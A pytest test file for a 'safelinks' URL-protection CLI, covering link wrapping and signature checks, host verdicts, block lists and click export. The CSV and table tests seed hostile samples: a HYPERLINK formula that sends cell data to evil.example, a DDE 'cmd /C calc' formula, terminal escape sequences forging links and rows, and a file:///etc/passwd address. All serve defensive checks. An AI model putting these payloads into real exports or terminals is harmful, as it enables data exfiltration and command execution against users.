"""The safelinks command: readable output, --json for machines, and a reason with every non-zero exit."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import TEST_KEYS, run_cli


@pytest.fixture(autouse=True)
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("SAFELINKS_DATA_DIR", str(tmp_path / "var"))
    monkeypatch.setenv("SAFELINKS_SIGNING_KEYS", TEST_KEYS)
    monkeypatch.setenv("SAFELINKS_SIGNING_KEY_ID", "k1")
    monkeypatch.setenv("SAFELINKS_PUBLIC_URL", "https://links.contoso.com")
    return tmp_path


run = run_cli


def test_wrap_then_decode(capsys: pytest.CaptureFixture[str]) -> None:
    """wrap prints a link under the public URL; decode gives back the URL and context and says valid."""
    code, out, _ = run(capsys, "wrap", "https://example.com/a?b=1", "--recipient", "alice@contoso.com",
                       "--conversation", "19:x@thread.v2", "--message", "42")
    link = out.strip()
    assert code == 0 and link.startswith("https://links.contoso.com/v1/url?url=https%3A%2F%2Fexample.com")
    code, out, _ = run(capsys, "decode", link, "--json")
    body = json.loads(out)
    assert code == 0 and body["status"] == "valid" and body["url"] == "https://example.com/a?b=1"
    assert body["context"]["recipient"] == "alice@contoso.com" and body["context"]["message"] == "42"
    code, out, _ = run(capsys, "decode", link.replace("example.com", "evil.com"))
    assert code == 1 and "tampered" in out


def test_decode_with_unknown_key(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    """A link signed with a key that is no longer configured decodes as 'unknown key'."""
    _, out, _ = run(capsys, "wrap", "https://example.com/")
    monkeypatch.setenv("SAFELINKS_SIGNING_KEYS", "other:" + "33" * 32)
    monkeypatch.setenv("SAFELINKS_SIGNING_KEY_ID", "other")
    code, out, _ = run(capsys, "decode", out.strip())
    assert code == 1 and "unknown key" in out


@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,hi", "file:///etc/passwd", "http://"])
def test_wrap_refuses_non_web_addresses(capsys: pytest.CaptureFixture[str], url: str) -> None:
    """wrap refuses what the proxy would never open, with exit 2 and a reason."""
    code, _, err = run(capsys, "wrap", url)
    assert code == 2 and "safelinks:" in err


def test_verdict_set_and_get(capsys: pytest.CaptureFixture[str]) -> None:
    """An admin verdict on a host covers its URLs; get --json shows verdict, source and reasons."""
    code, out, _ = run(capsys, "verdict", "set", "evil.example", "malicious", "--threat", "phish")
    assert code == 0 and "unknown -> malicious" in out
    code, out, _ = run(capsys, "verdict", "get", "https://login.evil.example/x", "--json")
    body = json.loads(out)
    assert body["verdict"] == "malicious" and body["source"] == "admin" and body["reasons"]
    code, _, err = run(capsys, "verdict", "set", "evil.example", "dangerous")
    assert code == 2 and "unknown verdict" in err


def test_block_list_lifecycle(capsys: pytest.CaptureFixture[str]) -> None:
    """block add/list/remove; an invalid entry is refused with its reason and a non-zero exit."""
    code, out, _ = run(capsys, "block", "add", "contoso-bad.com", "--notes", "phish kit")
    assert code == 0 and "added block contoso-bad.com" in out
    code, out, _ = run(capsys, "block", "add", "*.com")
    assert code == 2 and "refused" in out
    code, out, _ = run(capsys, "block", "list", "--json")
    [entry] = json.loads(out)
    assert entry["Value"] == "contoso-bad.com" and entry["Notes"] == "phish kit" and entry["RemoveOn"]
    code, out, _ = run(capsys, "block", "remove", "contoso-bad.com")
    assert code == 0 and "removed" in out
    code, out, _ = run(capsys, "block", "list")
    assert "(none)" in out




def test_clicks_list_and_export(capsys: pytest.CaptureFixture[str], env: Path) -> None:
    """Stored clicks list as a table and export as JSON lines or CSV under UrlClickEvents column names."""
    import asyncio
    from datetime import UTC, datetime

    from shared.clicks import ActionType, Click, Workload
    from shared.store import open_database
    from shared.store.clicks import ClickStore

    async def seed() -> None:
        db = await open_database(f"sqlite:///{env / 'var' / 'safelinks.db'}")
        store = ClickStore(db)
        store.start()
        for n in range(3):
            await store.record(Click(report_id=f"r{n}", timestamp=datetime.now(UTC), url=f"https://e.example/{n}",
                                     action_type=ActionType.CLICK_ALLOWED, workload=Workload.TEAMS, verdict="clean",
                                     account_upn="alice@contoso.com" if n else "bob@contoso.com"))
        await store.close()
        await db.close()

    asyncio.run(seed())
    code, out, _ = run(capsys, "clicks", "list", "--user", "alice@contoso.com")
    assert code == 0 and out.count("ClickAllowed") == 2 and "bob" not in out
    code, out, _ = run(capsys, "clicks", "list", "--json", "--since", "1h")
    records: list[dict[str, Any]] = json.loads(out)
    assert {"Timestamp", "Url", "ActionType", "AccountUpn", "Workload", "NetworkMessageId", "ThreatTypes",
            "DetectionMethods", "IPAddress", "IsClickedThrough", "UrlChain", "ReportId"} <= set(records[0])
    code, out, err = run(capsys, "clicks", "export", "--format", "jsonl")
    assert len(out.splitlines()) == 3 and "exported 3 clicks" in err
    code, out, _ = run(capsys, "clicks", "export", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert len(rows) == 3 and rows[0]["ActionType"] == "ClickAllowed" and rows[0]["IsClickedThrough"] == "false"
    code, out, _ = run(capsys, "clicks", "purge", "--older-than", "0s")
    assert code == 0 and "deleted 3 clicks" in out
    code, _, err = run(capsys, "clicks", "list", "--since", "yesterday")
    assert code == 2 and "--since" in err


def test_csv_export_neutralises_formulas(capsys: pytest.CaptureFixture[str], env: Path) -> None:
    """A CSV cell that starts like a formula (=, +, -, @, tab, CR) is exported with a leading quote (OWASP)."""
    import asyncio
    from datetime import UTC, datetime

    from shared.clicks import ActionType, Click, Workload
    from shared.store import open_database
    from shared.store.clicks import ClickStore

    agents = ['=HYPERLINK("https://evil.example/?x="&A1,"Open")', "+SUM(1)", "-2+3", "@cmd", "\tTAB", "\rCR",
              " =1", "Mozilla/5.0"]

    async def seed() -> None:
        db = await open_database(f"sqlite:///{env / 'var' / 'safelinks.db'}")
        store = ClickStore(db)
        store.start()
        for n, agent in enumerate(agents):
            await store.record(Click(report_id=f"r{n}", timestamp=datetime.now(UTC), url=f"https://e.example/{n}",
                                     action_type=ActionType.CLICK_ALLOWED, workload=Workload.TEAMS, verdict="clean",
                                     account_upn="=cmd|' /C calc'!A0@contoso.com", user_agent=agent))
        await store.close()
        await db.close()

    asyncio.run(seed())
    code, out, _ = run(capsys, "clicks", "export", "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert code == 0 and sorted(r["UserAgent"] for r in rows) == sorted(
        [*("'" + a for a in agents[:-1]), "Mozilla/5.0"])
    assert {r["AccountUpn"] for r in rows} == {"'=cmd|' /C calc'!A0@contoso.com"}
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())


def test_tables_print_outside_text_as_one_plain_line() -> None:
    """A table cell holds no control character: no ANSI colour, no OSC 8 terminal link, no second line."""
    from safelinks.cli.table import print_table

    out = io.StringIO()
    print_table(["User", "Url"], [("Mallory\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07\nforged row",
                                   "https://evil.example/\x1b[31mred")], out=out)
    text = out.getvalue()
    assert "\x1b" not in text and "\x07" not in text and len(text.splitlines()) == 3
    assert "https://evil.example/" in text  # addresses stay whole on the command line, to be copied


def test_bad_configuration_names_the_key(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    """A bad setting exits 2 naming the environment variable."""
    monkeypatch.setenv("SAFELINKS_PORT", "eighty")
    code, _, err = run(capsys, "clicks", "list")
    assert code == 2 and "SAFELINKS_PORT" in err


def test_bad_policy_file_names_the_key(capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch,
                                       tmp_path: Path) -> None:
    """A broken policy file exits 2 naming SAFELINKS_POLICY_FILE and the problem."""
    bad = tmp_path / "p.yaml"
    bad.write_text("policies:\n  - name: X\n    AllowClickTrough: true\n")
    monkeypatch.setenv("SAFELINKS_POLICY_FILE", str(bad))
    code, _, err = run(capsys, "verdict", "list")
    assert code == 2 and "SAFELINKS_POLICY_FILE" in err and "AllowClickTrough" in err


def test_config_file_supplies_settings(capsys: pytest.CaptureFixture[str], tmp_path: Path,
                                       monkeypatch: pytest.MonkeyPatch) -> None:
    """--config FILE (YAML) supplies settings; the environment still wins."""
    monkeypatch.delenv("SAFELINKS_PUBLIC_URL")
    cfg = tmp_path / "safelinks.yaml"
    cfg.write_text("public_url: https://from-file.example\n")
    code, out, _ = run(capsys, "--config", str(cfg), "wrap", "https://example.com/")
    assert code == 0 and out.startswith("https://from-file.example/v1/url?")


@pytest.mark.parametrize("value", ["aad-1,aad-2", " aad-1 , aad-2 ", '["aad-1", "aad-2"]'])
def test_list_settings_accept_commas_or_json(monkeypatch: pytest.MonkeyPatch, value: str) -> None:
    """SAFELINKS_ADMINS=a,b (or a JSON array) reads as a list, not a crash."""
    from shared.config import load_settings

    monkeypatch.setenv("SAFELINKS_ADMINS", value)
    monkeypatch.setenv("SAFELINKS_TENANT_DOMAINS", "contoso.com,fabrikam.com")
    settings = load_settings()
    assert settings.admins == ["aad-1", "aad-2"] and settings.tenant_domains == ["contoso.com", "fabrikam.com"]
